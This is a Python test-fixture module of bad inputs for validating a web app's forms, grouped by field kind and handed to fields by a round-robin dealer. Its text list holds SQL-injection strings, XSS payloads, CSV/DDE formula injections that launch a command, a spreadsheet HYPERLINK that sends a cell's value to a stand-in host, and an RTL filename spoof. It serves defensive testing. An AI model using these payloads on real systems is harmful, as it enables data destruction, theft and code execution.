"""The bad inputs: what users, scripts and attackers type into Chibo's forms, API and files.

Each payload has a short id (it names the pytest case) and a rule:
- REJECT: must be refused with a message and write nothing (a NUL byte, 31/02/2026, "abc"
  in a number, a value outside a list);
- SAFE: may be accepted, but only as inert text (SQL and HTML stored and shown literally,
  formula-looking text escaped on export) — never a server error, never a partial write.
"""

import unicodedata
from dataclasses import dataclass

REJECT = "reject"
SAFE = "safe"

XSS_MARK = '<script>alert("chibo-xss")</script>'


@dataclass(frozen=True)
class Payload:
    id: str
    value: str
    rule: str = SAFE


NFD_NAME = unicodedata.normalize("NFD", "Nguyễn Thị Ngọc Ánh")

TEXT = [
    Payload("sql-quote", "Robert'); DROP TABLE members_member;--"),
    Payload("sql-union", "' UNION SELECT username, password FROM accounts_user --"),
    Payload("sql-or", "x' OR '1'='1"),
    Payload("html-script", XSS_MARK),
    Payload("html-img", '"><img src=x onerror=alert(1)>'),
    Payload("long-10k", "Đ" * 10_000),
    Payload("nul", "Nguyễn\x00Văn", REJECT),
    Payload("nul-only", "\x00", REJECT),
    Payload("control-chars", "a\x01\x02\x1b[31m\x7fb\u200b"),
    Payload("nfd-vietnamese", NFD_NAME),
    Payload("emoji-rtl", "👍🏽 Chi bộ \u202egnp.exe\u202c"),
    Payload("formula-hyperlink", '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào")'),
    Payload("formula-cmd", "+cmd|' /C calc'!A0"),
    Payload("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("whitespace-only", " \t \u00a0 \u3000 "),
]

DATE = [
    Payload("feb-31", "31/02/2026", REJECT),
    Payload("month-13", "00/13/2026", REJECT),
    Payload("day-32", "32/01/2026", REJECT),
    Payload("year-0001", "01/01/0001"),
    Payload("year-9999", "31/12/9999"),
    Payload("us-format", "12/31/2026", REJECT),
    Payload("words", "ngày mai", REJECT),
    Payload("iso-slash", "2026/02/31", REJECT),
    Payload("nul", "01/01/2026\x00", REJECT),
    Payload("sql", "01/01/2026' OR '1'='1", REJECT),
    Payload("long", "1" * 10_000, REJECT),
]

NUMBER = [
    Payload("negative", "-1"),
    Payload("huge", "99999999999999999999999999", REJECT),
    Payload("int64-overflow", "9223372036854775808", REJECT),
    Payload("not-a-number", "mười", REJECT),
    Payload("exponent", "1e309", REJECT),
    Payload("nan", "NaN", REJECT),
    Payload("nul", "1\x00", REJECT),
    Payload("sql", "1; DROP TABLE members_member", REJECT),
]

CHOICE = [
    Payload("not-in-list", "zzz-not-a-choice", REJECT),
    Payload("sql", "' OR 1=1 --", REJECT),
    Payload("nul", "\x00", REJECT),
    Payload("long", "x" * 10_000, REJECT),
]

DATETIME = [
    Payload("feb-31", "31/02/2026 19:30", REJECT),
    Payload("hour-25", "05/09/2025 25:61", REJECT),
    Payload("year-9999", "31/12/9999 23:59"),
    Payload("year-0001", "01/01/0001 00:00"),
    Payload("nul", "05/09/2025\x00 19:30", REJECT),
    Payload("words", "tối mai", REJECT),
]

TIME = [
    Payload("hour-25", "25:61", REJECT),
    Payload("words", "tối", REJECT),
    Payload("nul", "19:30\x00", REJECT),
]

BY_KIND = {
    "text": TEXT,
    "date": DATE,
    "number": NUMBER,
    "choice": CHOICE,
    "datetime": DATETIME,
    "time": TIME,
}

# Payloads every field of a kind gets; the rest are dealt out in turn across the fields of
# the corpus so each payload meets many fields while the run stays short (docs/bad-input.md).
ALWAYS = {
    "text": ("nul",),
    "date": ("feb-31",),
    "number": ("not-a-number",),
    "choice": ("not-in-list",),
    "datetime": ("feb-31",),
    "time": ("hour-25",),
}
# Text fields are many and mostly alike: each gets NUL, and every third one of the others in
# turn; every other date and list field one more, every number one more (CHIBO_BADINPUT_FULL=1 gives every payload to
# every field: about 3,000 form cases, the run that found the bugs in docs/bad-input.md).
ROTATING_PER_FIELD = 1
ROTATE_EVERY = {"text": 3, "date": 2, "number": 1, "choice": 3, "datetime": 1, "time": 1}


class Dealer:
    """Deals the optional payloads of each kind round-robin, deterministically."""

    def __init__(self):
        self.next = dict.fromkeys(BY_KIND, 0)
        self.seen = dict.fromkeys(BY_KIND, 0)

    def payloads(self, kind: str, full: bool = False) -> list[Payload]:
        every = BY_KIND[kind]
        if full:
            return list(every)
        chosen = [p for p in every if p.id in ALWAYS[kind]]
        rest = [p for p in every if p.id not in ALWAYS[kind]]
        self.seen[kind] += 1
        if self.seen[kind] % ROTATE_EVERY[kind]:
            return chosen
        for _ in range(min(ROTATING_PER_FIELD, len(rest))):
            chosen.append(rest[self.next[kind] % len(rest)])
            self.next[kind] += 1
        return chosen
